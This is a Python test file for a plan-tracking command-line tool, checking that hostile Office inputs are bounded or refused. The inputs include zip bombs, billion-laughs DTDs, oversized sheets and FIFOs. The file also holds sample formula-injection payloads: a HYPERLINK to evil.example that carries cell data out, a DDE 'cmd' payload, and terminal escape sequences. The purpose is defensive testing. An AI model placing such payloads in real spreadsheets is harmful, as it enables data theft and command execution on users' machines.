"""Office files in and out, hostile: bounded before a library expands them, never a formula, never exit 70.

In: a returned .xlsx (``import``), a plan document or annex (``draft``), a names file
or ``config.toml`` that is a bomb, a flood or a FIFO: one line naming the file and
the bound, a documented exit code, within a memory limit, nothing recorded.
Out: text from the plan, the journal or ``--by`` that starts with '=' or holds ESC or
a vertical tab is written into every workbook and Word report as text.
"""

import io
import json
import os
import resource
import subprocess
import zipfile

import pytest
from openpyxl import load_workbook

from tests.conftest import DSDAY, write_plan

AS_OF = ["--as-of", "2023-10-20"]
MEMORY = 768 * 2**20  # "a few hundred MB": a run that needs more fails with MemoryError (exit 70)


def run(*args: str, env: dict | None = None, cwd=None) -> subprocess.CompletedProcess:
    """The installed dsday under an address-space limit; a hang fails the test at 60 s."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))

    return subprocess.run(
        [DSDAY, *args],
        capture_output=True,
        text=True,
        env=dict(os.environ) | (env or {}),
        cwd=cwd,
        timeout=60,
        preexec_fn=limit,
    )


def one_line(done: subprocess.CompletedProcess, code: int) -> str:
    """The run's only stderr line, after checking its exit code and that it is no traceback."""
    assert done.returncode == code, (done.returncode, done.stderr[-600:])
    assert "Traceback" not in done.stderr
    lines = done.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("dsday: "), done.stderr[-600:]
    return lines[0]


# ---- building hostile packages --------------------------------------------------

_CT = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WB = (
    '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WBR = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
    'Target="sharedStrings.xml"/></Relationships>'
)
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _c(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


HEADER = '<row r="1">' + _c("A1", "id") + _c("B1", "member") + _c("C1", "done_on") + "</row>"


def workbook(path, rows: str | bytes, head: str = "", strings: bytes = b"", prolog: str = "") -> None:
    """A one-sheet .xlsx of ``rows`` (``head`` before its sheetData), written by hand as a hostile tool would."""
    body = rows.encode() if isinstance(rows, str) else rows
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", _CT)
        package.writestr("_rels/.rels", _RELS)
        package.writestr("xl/workbook.xml", _WB)
        package.writestr("xl/_rels/workbook.xml.rels", _WBR)
        package.writestr(
            "xl/sharedStrings.xml", f'<?xml version="1.0"?><sst xmlns="{_MAIN}">'.encode() + strings + b"</sst>"
        )
        package.writestr(
            "xl/worksheets/sheet1.xml",
            f'<?xml version="1.0"?>{prolog}<worksheet xmlns="{_MAIN}">{head}<sheetData>'.encode()
            + body
            + b"</sheetData></worksheet>",
        )


def word(path, body: bytes) -> None:
    """A .docx made by python-docx whose body is replaced by ``body`` (before the section properties)."""
    import docx

    buffer = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("KẾ HOẠCH")
    document.save(buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "word/document.xml":
                at = data.index(b"<w:sectPr")
                data = data[:at] + body + data[at:]
            target.writestr(item.filename, data)


def written(tmp_path, name: str, *args: str) -> None:
    """Run dsday, its output to the file ``name`` (export with --output, the others on stdout)."""
    with open(tmp_path / name, "wb") as stream:
        done = subprocess.run([DSDAY, *args], stdout=stream, stderr=subprocess.PIPE, text=False, timeout=120)
    assert done.returncode == 0, (args, done.stderr.decode(errors="replace"))


def journal_is_empty(sh) -> None:
    assert json.loads(sh("log", "--format", "json", *AS_OF).out) == []


# ---- returned workbooks ---------------------------------------------------------

TICKED = "".join(f'<row r="{n}">{_c(f"A{n}", "v2-1")}{_c(f"C{n}", "12/10/2023")}</row>' for n in (2,))


@pytest.mark.parametrize(
    "name, build, bound",
    [
        ("rows.xlsx", lambda p: workbook(p, HEADER + TICKED + '<row r="100001"/>'), "100000 rows in a sheet"),
        (
            "empty-rows.xlsx",
            lambda p: workbook(p, HEADER.encode() + b"<row/>" * 100_001),
            "100000 rows in a sheet",
        ),
        ("column.xlsx", lambda p: workbook(p, HEADER + '<row r="2"><c r="XFD2"/></row>'), "256 columns in a sheet"),
        (
            "cells.xlsx",
            lambda p: workbook(p, HEADER.encode() + (b"<row>" + b"<c/>" * 100 + b"</row>") * 3001),
            "300000 cells",
        ),
        (
            "strings.xlsx",
            lambda p: workbook(p, HEADER, strings=b"<si><t>a</t></si>" * 200_001),
            "200000 shared strings",
        ),
        (
            "long-cell.xlsx",
            lambda p: workbook(p, '<row r="1">' + _c("A1", "id " + "x" * 40_000) + "</row>"),
            "32767 characters in one cell",
        ),
        (
            "tags.xlsx",
            lambda p: workbook(p, HEADER, head="<sheetPr>" + "<x/>" * 4_000_001 + "</sheetPr>"),
            "4000000 XML elements",
        ),
    ],
)
def test_a_returned_workbook_over_a_bound_is_one_line_and_exit_65(sh, tmp_path, name, build, bound):
    build(tmp_path / name)
    assert (tmp_path / name).stat().st_size < 2_000_000  # small on disk
    line = one_line(run("import", name, *AS_OF), 65)
    assert line == f"dsday: {name}: more than {bound}; more than a plan document or checklist holds"
    journal_is_empty(sh)


def test_a_workbook_with_a_dtd_is_refused(sh, tmp_path):
    laughs = '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    workbook(tmp_path / "dtd.xlsx", HEADER + TICKED, prolog=laughs)
    line = one_line(run("import", "dtd.xlsx", *AS_OF), 65)
    assert line == "dsday: dtd.xlsx: xl/worksheets/sheet1.xml declares a DTD, which no Office file does; not read"
    journal_is_empty(sh)


def test_a_declared_dimension_is_not_trusted(sh, tmp_path):
    # A1:XFD1048576 declared over 1,000 real rows: read as padded rows, it is 16 million cells.
    # (--any-agency: the hand-made workbook carries no binding; 1,000 rows stay under import's row cap)
    rows = "".join(f'<row r="{n}">{_c(f"A{n}", "zz")}</row>' for n in range(3, 1003))
    workbook(tmp_path / "dim.xlsx", HEADER + TICKED + rows, head='<dimension ref="A1:XFD1048576"/>')
    done = run("import", "dim.xlsx", "--dry-run", "--any-agency", *AS_OF)
    assert done.returncode == 0, done.stderr[-600:]
    assert "dim.xlsx[S]:2: would record v2-1 done on 12/10/2023" in done.stdout + done.stderr


def test_a_returned_workbook_that_unpacks_beyond_the_limit(sh, tmp_path):
    workbook(tmp_path / "bomb.xlsx", HEADER + TICKED)
    data = bytearray((tmp_path / "bomb.xlsx").read_bytes())
    at = data.rfind(b"PK\x01\x02")  # the central entry of the last member (the sheet): it claims 3 GiB unpacked
    data[at + 24 : at + 28] = (3 * 2**30).to_bytes(4, "little")
    (tmp_path / "bomb.xlsx").write_bytes(bytes(data))
    line = one_line(run("import", "bomb.xlsx", *AS_OF), 65)
    assert line == "dsday: bomb.xlsx: 3072 MiB once unpacked; more than a plan document holds (the limit is 200 MiB)"


def test_a_damaged_workbook_is_still_a_located_problem(sh, tmp_path):
    (tmp_path / "broken.xlsx").write_bytes(b"PK\x03\x04" + bytes(200))
    done = run("import", "broken.xlsx", *AS_OF)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert done.stderr.startswith("broken.xlsx: not a readable Excel workbook (")


# ---- documents for draft --------------------------------------------------------


def test_a_document_of_millions_of_empty_paragraphs_is_refused_within_the_memory_limit(tmp_path):
    word(tmp_path / "paragraphs.docx", b"<w:p/>" * 5_000_000)  # ~30 MB of XML, 40 KB on disk
    line = one_line(run("draft", "paragraphs.docx", "-o", "out.yaml"), 65)
    assert line == (
        "dsday: paragraphs.docx: more than 4000000 XML elements; more than a plan document or checklist holds"
    )
    assert not (tmp_path / "out.yaml").exists()


@pytest.mark.parametrize(
    "body, bound",
    [
        (b"<w:p/>" * 200_001, "200000 paragraphs"),
        (b"<w:p>" + b"<w:r/>" * 500_001 + b"</w:p>", "500000 runs of text"),
        (
            b'<w:tbl><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:tcPr><w:gridSpan w:val="50000000"/>'
            b"</w:tcPr><w:p/></w:tc></w:tr></w:tbl>",
            "63 columns in a table row",
        ),
        (b"<w:tbl>" + (b"<w:tr>" + b"<w:tc/>" * 50 + b"</w:tr>") * 4001 + b"</w:tbl>", "200000 table cells"),
        (b"<w:p><w:r><w:t>" + b"a" * 8_000_001 + b"</w:t></w:r></w:p>", "8000000 characters of text"),
    ],
)
def test_a_document_over_a_bound_is_one_line_and_exit_65(tmp_path, body, bound):
    word(tmp_path / "bomb.docx", body)
    line = one_line(run("draft", "bomb.docx", "-o", "out.yaml"), 65)
    assert line == f"dsday: bomb.docx: more than {bound}; more than a plan document or checklist holds"
    assert not (tmp_path / "out.yaml").exists()


def test_a_table_merged_down_900_rows_is_read_in_one_pass(tmp_path):
    # 60 columns, each one cell merged down 900 rows: python-docx's row.cells walks up for each (minutes).
    first = b"<w:tr>" + b'<w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr><w:p/></w:tc>' * 60 + b"</w:tr>"
    rest = (b"<w:tr>" + b"<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>" * 60 + b"</w:tr>") * 899
    grid = b"<w:tblGrid>" + b"<w:gridCol/>" * 60 + b"</w:tblGrid>"
    word(tmp_path / "vmerge.docx", b"<w:tbl>" + grid + first + rest + b"</w:tbl>")
    line = one_line(run("draft", "vmerge.docx", "-o", "out.yaml"), 65)
    assert line.startswith("dsday: vmerge.docx: no duties found")


def test_merged_cells_read_as_python_docx_reads_them(tmp_path):
    """The one-pass reading gives each row the cells python-docx's ``row.cells`` gives, merged ones once a row."""
    import docx

    from dsday_cli.documents.draft_sources import read_source

    document = docx.Document()
    table = document.add_table(rows=5, cols=5)
    for r in range(5):
        for c in range(5):
            table.cell(r, c).text = f"{r}{c}"
    table.cell(1, 1).merge(table.cell(3, 1))  # down three rows
    table.cell(0, 2).merge(table.cell(0, 4))  # across three columns
    table.cell(2, 3).merge(table.cell(4, 4))  # a block of three rows and two columns
    document.save(tmp_path / "merged.docx")
    expected = []
    for row in docx.Document(tmp_path / "merged.docx").tables[0].rows:
        seen, cells = [], []
        for cell in row.cells:
            if not any(cell._tc is s for s in seen):
                seen.append(cell._tc)
                cells.append(" ".join(p.text for p in cell.paragraphs).strip())
        expected.append(cells)
    assert read_source(tmp_path / "merged.docx").tables[0].rows == expected
    assert expected[2][1] == "11 21 31" and expected[4][3] == "23 24 33 34 43 44"


def test_an_annex_of_many_rows_summarises_in_a_bounded_number_of_lines(sh, tmp_path):
    lines = ["STT,Nội dung nhiệm vụ,Cơ quan chủ trì,Thời gian hoàn thành"]
    lines += [f"{k},Việc {k},Sở {k % 30},10/10/2023" for k in range(1, 2001)]
    (tmp_path / "annex.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = sh("draft", "annex.csv", "-o", "annex.yaml")
    assert result.code == 0, result
    err = result.err.splitlines()
    assert len(err) < 120, len(err)
    assert "dsday:   … and 1951 more, each commented in the draft" in err
    assert (tmp_path / "annex.yaml").read_text(encoding="utf-8").count("# inferred:") >= 2001


# ---- FIFOs ----------------------------------------------------------------------


def test_a_fifo_is_refused_at_once_wherever_a_file_is_read(sh, tmp_path, monkeypatch):
    os.mkfifo(tmp_path / "doc.txt")
    os.mkfifo(tmp_path / "names.txt")
    assert one_line(run("draft", "doc.txt", "-o", "d.yaml"), 66) == (
        "dsday: doc.txt: cannot read: it is a FIFO, not a regular file"
    )
    (tmp_path / "plan.txt").write_text("KẾ HOẠCH\n", encoding="utf-8")
    assert one_line(run("draft", "plan.txt", "--members", "ubnd-huyen=names.txt", "-o", "d.yaml"), 66) == (
        "dsday: names.txt: cannot read: it is a FIFO, not a regular file"
    )
    write_plan(tmp_path / "plan.yaml", members=2)
    assert one_line(run("plan", "members", "ag0", "--from", "names.txt", "--plan", "plan.yaml"), 66) == (
        "dsday: names.txt: cannot read: it is a FIFO, not a regular file"
    )
    (tmp_path / "cfg" / "dsday").mkdir(parents=True)
    os.mkfifo(tmp_path / "cfg" / "dsday" / "config.toml")
    env = {"XDG_CONFIG_HOME": str(tmp_path / "cfg")}
    config = tmp_path / "cfg" / "dsday" / "config.toml"
    monkeypatch.delenv("DSDAY_USER")  # who records: without DSDAY_USER the configuration file is read
    assert one_line(run("done", "t1", "--plan", "plan.yaml", *AS_OF, env=env), 78) == (
        f"dsday: {config}: cannot read: it is a FIFO, not a regular file"
    )
    assert json.loads(sh("log", "--plan", "plan.yaml", "--format", "json", *AS_OF).out) == []


# ---- workbooks and Word reports written -----------------------------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
FORMULA_BY = "=cmd|' /C calc'!A0"


def _formula_plan(tmp_path):
    plan = write_plan(tmp_path / "plan.yaml")
    text = plan.read_text(encoding="utf-8").replace("name: Cơ quan số 1", "name: " + json.dumps(FORMULA_NAME))
    plan.write_text(text, encoding="utf-8")
    return plan


def test_no_workbook_holds_a_formula(sh, tmp_path):
    _formula_plan(tmp_path)
    assert sh("validate", "--plan", "plan.yaml").code == 0
    assert sh("done", "t1", "--note", "=1+1", "--by", FORMULA_BY, "--on", "12/10/2023", *AS_OF).code == 0
    outputs = {
        "ag1.xlsx": ("export", "-a", "ag1", "--format", "xlsx"),
        "list.xlsx": ("list", "--format", "xlsx"),
        "log.xlsx": ("log", "--format", "xlsx"),
        "agencies.xlsx": ("agencies", "--format", "xlsx"),
        "overdue.xlsx": ("overdue", "--format", "xlsx"),
    }
    texts = set()
    for name, args in outputs.items():
        written(tmp_path, name, *args, *AS_OF)
        for sheet in load_workbook(tmp_path / name).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                    texts.add(cell.value)
    assert {FORMULA_BY, "=1+1"} <= texts
    assert any(isinstance(t, str) and t.startswith(FORMULA_NAME) for t in texts)
    # A spreadsheet program shows the text, not a computed value.
    done = subprocess.run(
        ["ssconvert", "log.xlsx", "log.csv"], cwd=tmp_path, capture_output=True, text=True, timeout=120, check=False
    )
    assert done.returncode == 0, done.stderr
    shown = (tmp_path / "log.csv").read_text(encoding="utf-8")
    assert "=1+1" in shown and "calc" in shown


def test_control_characters_in_notes_names_and_the_title_never_stop_an_output(sh, tmp_path):
    plan = write_plan(tmp_path / "plan.yaml")
    text = plan.read_text(encoding="utf-8").replace("title: Kế hoạch thử", 'title: "Kế hoạch\\vthử"')
    plan.write_text(text, encoding="utf-8")
    title_accepted = sh("validate").code == 0
    if not title_accepted:  # a plan that refuses control characters in its title: the journal still carries them
        write_plan(tmp_path / "plan.yaml")
    assert sh("done", "t0", "--note", "Dòng một\vdòng hai", "--on", "12/10/2023", *AS_OF).code == 0
    assert sh("done", "t1", "--by", "Văn thư\x1b[2J", "--note", "a\x01b\x0cc", "--on", "12/10/2023", *AS_OF).code == 0
    for name, args in {
        "export.xlsx": ("export", "--format", "xlsx"),
        "list.xlsx": ("list", "--format", "xlsx"),
        "log.xlsx": ("log", "--format", "xlsx"),
        "report.docx": ("report", "--format", "docx"),
    }.items():
        written(tmp_path, name, *args, *AS_OF)
    values = [c.value for row in load_workbook(tmp_path / "log.xlsx").active.iter_rows() for c in row]
    assert "Dòng một\ndòng hai" in values and "Văn thư\ufffd[2J" in values and "a\ufffdb\nc" in values
    import docx

    report = docx.Document(tmp_path / "report.docx")
    if title_accepted:
        assert "Kế hoạch\nthử" in report.core_properties.title


# ---- returned OpenDocument spreadsheets -------------------------------------------

_ODS_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)


def _oc(text: str, repeat: int = 1) -> str:
    repeated = f' table:number-columns-repeated="{repeat}"' if repeat > 1 else ""
    return f'<table:table-cell office:value-type="string"{repeated}><text:p>{text}</text:p></table:table-cell>'


ODS_HEADER = "<table:table-row>" + _oc("id") + _oc("member") + _oc("done_on") + "</table:table-row>"
ODS_TICKED = "<table:table-row>" + _oc("v2-1") + "<table:table-cell/>" + _oc("12/10/2023") + "</table:table-row>"


def spreadsheet(path, rows: str, prolog: str = "", mimetype: str = "application/vnd.oasis.opendocument.spreadsheet"):
    """A one-table .ods of ``rows``, written by hand as a hostile tool would (the mimetype first, stored)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        package.writestr(
            "content.xml",
            f'<?xml version="1.0"?>{prolog}<office:document-content {_ODS_NS}><office:body><office:spreadsheet>'
            f'<table:table table:name="S">{rows}</table:table></office:spreadsheet></office:body>'
            "</office:document-content>",
        )


@pytest.mark.parametrize(
    "rows, bound",
    [
        (ODS_HEADER + "<table:table-row>" + _oc("x", 1_000_000) + "</table:table-row>", "256 columns in a sheet"),
        (ODS_HEADER + '<table:table-row table:number-rows-repeated="1000000000">' + _oc("v2-1") + "</table:table-row>",
         "100000 rows in a sheet"),  # fmt: skip
        (ODS_HEADER + ("<table:table-row>" + _oc("v", 200) + "</table:table-row>") * 1501, "300000 cells"),
        (ODS_HEADER + "<table:table-row>" + _oc("x" * 40_000) + "</table:table-row>", "32767 characters in one cell"),
    ],
)
def test_a_returned_ods_over_a_bound_is_one_line_and_exit_65(sh, tmp_path, rows, bound):
    spreadsheet(tmp_path / "back.ods", rows)
    assert (tmp_path / "back.ods").stat().st_size < 2_000_000  # small on disk
    line = one_line(run("import", "back.ods", "--any-agency", *AS_OF), 65)
    assert line == f"dsday: back.ods: more than {bound}; more than a plan document or checklist holds"
    journal_is_empty(sh)


def test_an_ods_of_empty_runs_as_libreoffice_writes_them_costs_nothing(sh, tmp_path):
    empty_tail = '<table:table-cell table:number-columns-repeated="16380"/>'
    rows = (
        ODS_HEADER.replace("</table:table-row>", empty_tail + "</table:table-row>")
        + ODS_TICKED
        + f'<table:table-row table:number-rows-repeated="1048573">{empty_tail}</table:table-row>'
    )
    spreadsheet(tmp_path / "back.ods", rows)
    done = run("import", "back.ods", "--dry-run", "--any-agency", *AS_OF)
    assert done.returncode == 0, done.stderr[-600:]
    assert "back.ods[S]:2: would record v2-1 done on 12/10/2023" in done.stdout


def test_an_ods_with_a_dtd_and_an_ods_that_is_not_a_spreadsheet(sh, tmp_path):
    laughs = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    spreadsheet(tmp_path / "dtd.ods", ODS_HEADER + ODS_TICKED, prolog=laughs)
    line = one_line(run("import", "dtd.ods", "--any-agency", *AS_OF), 65)
    assert line == "dsday: dtd.ods: content.xml declares a DTD, which no Office file does; not read"
    spreadsheet(tmp_path / "text.ods", "", mimetype="application/vnd.oasis.opendocument.text")
    done = run("import", "text.ods", *AS_OF)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "text.ods: this is an OpenDocument file, not a spreadsheet" in done.stderr
    spreadsheet(tmp_path / "named.xlsx", ODS_HEADER + ODS_TICKED)  # an .ods under another name
    done = run("import", "named.xlsx", *AS_OF)
    assert done.returncode == 2 and "named.xlsx: this is an OpenDocument spreadsheet (.ods), not a XLSX file" in done.stderr
    journal_is_empty(sh)


def test_an_unknown_xml_encoding_is_a_located_problem_not_an_internal_error(sh, tmp_path):
    workbook(tmp_path / "enc.xlsx", HEADER + TICKED)
    with zipfile.ZipFile(tmp_path / "enc.xlsx") as source, zipfile.ZipFile(tmp_path / "evil.xlsx", "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="x-evil"?>')
            target.writestr(item.filename, data)
    done = run("import", "evil.xlsx", *AS_OF)
    assert done.returncode in (2, 65) and "Traceback" not in done.stderr and "internal error" not in done.stderr
    assert "unknown encoding: x-evil" in done.stderr
    journal_is_empty(sh)


def test_hostile_list_numbering_costs_bounded_time_and_memory(tmp_path):
    """100,000 levels in one list definition used by 2,000 lists, and levels past Word's nine."""
    import docx

    buffer = io.BytesIO()
    document = docx.Document()
    for number in range(40):
        paragraph = document.add_paragraph(f"Chủ trì thực hiện nhiệm vụ số {number}", style="List Number")
        paragraph.paragraph_format  # the style carries numbering; levels below come from numbering.xml
    document.save(buffer)
    levels = "".join(f'<w:lvl w:ilvl="{n}"><w:numFmt w:val="decimal"/></w:lvl>' for n in range(100_000))
    nums = "".join(f'<w:num w:numId="{n}"><w:abstractNumId w:val="0"/></w:num>' for n in range(1, 2000))
    ns = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    numbering = f'<?xml version="1.0"?><w:numbering {ns}><w:abstractNum w:abstractNumId="0">{levels}</w:abstractNum>{nums}</w:numbering>'
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(tmp_path / "lists.docx", "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "word/numbering.xml":
                data = numbering.encode()
            target.writestr(item.filename, data)
    done = run("draft", "lists.docx", "-o", str(tmp_path / "out.yaml"))  # under the memory limit and 60 s
    assert done.returncode in (0, 65) and "Traceback" not in done.stderr, done.stderr[-600:]


def test_an_html_report_obeys_no_control_character(sh, tmp_path):
    plan = write_plan(tmp_path / "plan.yaml")
    text = plan.read_text(encoding="utf-8").replace("title: Việc số 0,", 'title: "A\\x01B\\e[31mRED\\e]0;pwned\\aC\\x7fE",')
    plan.write_text(text, encoding="utf-8")
    assert "RED" in plan.read_text(encoding="utf-8")
    done = run("report", "--format", "html", "--plan", str(plan), *AS_OF)
    assert done.returncode == 0, done.stderr
    assert not any(c in done.stdout for c in ("\x1b", "\x07", "\x01", "\x7f")), "a control character obeyed"
    assert "A\u2401B\u241b[31mRED" in done.stdout  # shown, not obeyed
